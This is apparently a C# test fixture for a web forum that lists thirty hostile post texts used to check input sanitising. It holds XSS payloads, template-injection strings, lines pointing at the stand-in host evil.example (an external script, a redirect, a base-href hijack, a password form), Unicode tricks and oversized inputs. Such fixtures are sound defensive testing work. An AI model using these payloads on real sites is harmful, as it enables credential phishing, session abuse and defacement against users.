namespace Auscult.Web.Tests;

/// <summary>Thirty texts that try to be more than words on a page.</summary>
internal static class HostilePosts
{
    private const string Bait = " my insomnia since Lexapro, what helps?";

    public static IReadOnlyList<string> Texts { get; } =
    [
        "<script>alert(1)</script>" + Bait,
        "<ScRiPt src=//evil.example/x.js></sCrIpT>" + Bait,
        "<img src=x onerror=alert(1)>" + Bait,
        "<svg/onload=alert(1)>" + Bait,
        "<svg><script>alert(1)</script></svg>" + Bait,
        "<iframe srcdoc='<script>parent.x=1</script>'></iframe>" + Bait,
        "<a href=\"javascript:alert(1)\">click</a>" + Bait,
        "<style>body{display:none}</style>" + Bait,
        "<meta http-equiv=refresh content=0;url=//evil.example>" + Bait,
        "<base href=//evil.example>" + Bait,
        "<form action=//evil.example><input name=password></form>" + Bait,
        "</span></p></main></body></html>" + Bait,
        "\"><b onmouseover=alert(1)>" + Bait,
        "' onfocus='alert(1)' autofocus='" + Bait,
        "<!--" + Bait,
        "<![CDATA[ <script>alert(1)</script> ]]>" + Bait,
        "<template><script>alert(1)</script></template>" + Bait,
        "<div hx-get=\"/sign-out\" hx-trigger=\"load\">" + Bait,
        "<button data-dialog=\"au-palette\" data-key=\"j\" data-go=\"//evil.example\">" + Bait,
        "{{constructor.constructor('alert(1)')()}} ${alert(1)} @(1+1)" + Bait,
        "&lt;script&gt;alert(1)&lt;/script&gt; &#x3c;script&#x3e;" + Bait,
        "\u202Egnirts desrever a si siht\u202C" + Bait,
        "\u2066\u2067\u2068 isolates without an end" + Bait,
        "Z" + new string('\u0351', 4_000) + "algo" + Bait,
        "null\0byte and \u0007bell and \u001b[31mred" + Bait,
        new string('x', 1_000_000 - 100) + Bait,
        string.Concat(Enumerable.Repeat("<div>", 20_000)) + Bait,
        string.Concat(Enumerable.Repeat("👩‍👩‍👧‍👦", 5_000)) + Bait,
        "\uFEFF\u200B\u200D\u2060" + Bait,
        string.Concat(Enumerable.Repeat("&amp;", 10_000)) + Bait,
    ];
}
